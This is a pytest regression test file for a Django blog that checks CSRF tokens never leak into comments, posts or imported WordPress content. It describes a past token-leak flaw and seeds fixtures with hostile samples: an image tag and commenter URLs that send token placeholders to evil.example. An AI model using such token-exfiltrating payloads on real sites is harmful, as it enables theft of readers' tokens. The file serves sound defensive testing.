"""Per-reader values (a CSRF token) never reach content, and anonymous pages carry none.

An earlier version filled in fixed placeholder texts wherever they appeared,
comment bodies and imported post HTML included, so a comment could make
every reader's page carry that reader's own token to another site. Today
anonymous pages hold no per-reader value at all (wflm/same_origin.py) and
signed-in pages print the token in the form only; content holding the old
placeholder texts stays as it was written.
"""

import re

import pytest

from archive.tests.files import run_import
from archive.tests.test_import_rules import wxr, wxr_comment
from comments.models import Comment
from conftest import make_comment, make_post
from posts.models import Post

pytestmark = pytest.mark.django_db

# The fixed placeholders of that version, and the prefix of today's.
OLD_PLACEHOLDERS = "wflm-csrf-token-3f9c1d wflm-form-timestamp-8e2a7b"
HOSTILE = f"{OLD_PLACEHOLDERS} wflm-csrf-token- wflm-form-timestamp- csrf-token form-timestamp"


def form_values(html):
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
    timestamp = re.search(r'name="ts" value="([^"]+)"', html)[1]
    return (token[1] if token else None), timestamp


def assert_only_in_the_form(html, signed_in=False):
    token, timestamp = form_values(html)
    if signed_in:
        assert token and html.count(token) == 1
    else:
        assert token is None
    assert html.count(timestamp) == 1
    # The content is shown as it was written, untouched.
    assert OLD_PLACEHOLDERS in html


@pytest.fixture
def hostile_post(db):
    post = make_post(
        title=f"Title {OLD_PLACEHOLDERS}",
        body=f'<p>{HOSTILE}</p><img src="https://evil.example/px.gif?t={OLD_PLACEHOLDERS.split()[0]}">',
        excerpt=HOSTILE,
    )
    make_comment(
        post,
        name=f"Eve {OLD_PLACEHOLDERS.split()[0]}",
        url=f"http://evil.example/?t={OLD_PLACEHOLDERS.split()[0]}&s={OLD_PLACEHOLDERS.split()[1]}",
        body=HOSTILE,
    )
    return post


@pytest.mark.parametrize("visit", ["first", "cached"])
def test_hostile_content_never_receives_the_readers_values(client, hostile_post, visit):
    if visit == "cached":
        client.get(hostile_post.get_absolute_url())
    html = client.get(hostile_post.get_absolute_url()).content.decode()
    assert_only_in_the_form(html)
    assert "evil.example/?t=wflm-csrf-token-3f9c1d" in html
    assert html.count("evil.example/px.gif?t=wflm-csrf-token-3f9c1d") == 1


def test_a_signed_in_moderators_token_stays_in_the_form(admin_client, hostile_post):
    # Signed-in pages bypass the cache and carry the token, in the form only.
    html = admin_client.get(hostile_post.get_absolute_url()).content.decode()
    assert_only_in_the_form(html, signed_in=True)


def test_the_list_pages_carry_no_reader_values(client, hostile_post):
    html = client.get("/").content.decode()
    assert OLD_PLACEHOLDERS in html  # the excerpt, untouched
    assert 'name="csrfmiddlewaretoken"' not in html


def test_a_form_re_rendered_with_errors_fills_in_only_the_form(admin_client, hostile_post):
    response = admin_client.post(hostile_post.get_absolute_url(), {"name": "", "email": "x", "body": HOSTILE})
    html = response.content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)[1]
    assert html.count(token) == 1
    assert html.count(HOSTILE) >= 2  # the comment shown, and the reader's text kept in the form


def test_placeholder_texts_posted_through_the_form_and_imported_stay_inert(client, tmp_path, settings):
    settings.COMMENTS_MIN_SUBMIT_SECONDS = 0
    settings.COMMENTS_REQUIRE_PREVIOUSLY_APPROVED = False
    item = (
        "<item><title>Imported</title><link>http://old.example/2009/05/imported/</link>"
        f'<content:encoded><![CDATA[<p>{HOSTILE}</p><img src="https://evil.example/px.gif?t={OLD_PLACEHOLDERS.split()[0]}">]]></content:encoded>'
        "<wp:post_id>7</wp:post_id><wp:post_date>2009-05-12 22:00:00</wp:post_date>"
        "<wp:post_date_gmt>2009-05-12 20:00:00</wp:post_date_gmt><wp:comment_status>open</wp:comment_status>"
        "<wp:post_name>imported</wp:post_name><wp:status>publish</wp:status><wp:post_type>post</wp:post_type>"
        + wxr_comment(1, author=f"Mallory {OLD_PLACEHOLDERS.split()[0]}", content=HOSTILE)
        + "</item>"
    )
    path = tmp_path / "export.xml"
    path.write_text(wxr(item), encoding="utf-8")
    run_import(path)
    post = Post.objects.get(slug="imported")
    page = client.get(post.get_absolute_url()).content.decode()
    _token, timestamp = form_values(page)
    response = client.post(
        post.get_absolute_url(),
        {
            "name": f"Eve {OLD_PLACEHOLDERS.split()[0]}",
            "email": "eve@example.com",
            "url": f"http://evil.example/?t={OLD_PLACEHOLDERS.split()[0]}",
            "body": HOSTILE,
            "ts": timestamp,
        },
    )
    assert response.status_code == 302
    assert Comment.objects.filter(post=post, body=HOSTILE).count() == 2
    for _ in range(2):  # rendered, then from the cache
        assert_only_in_the_form(client.get(post.get_absolute_url()).content.decode())
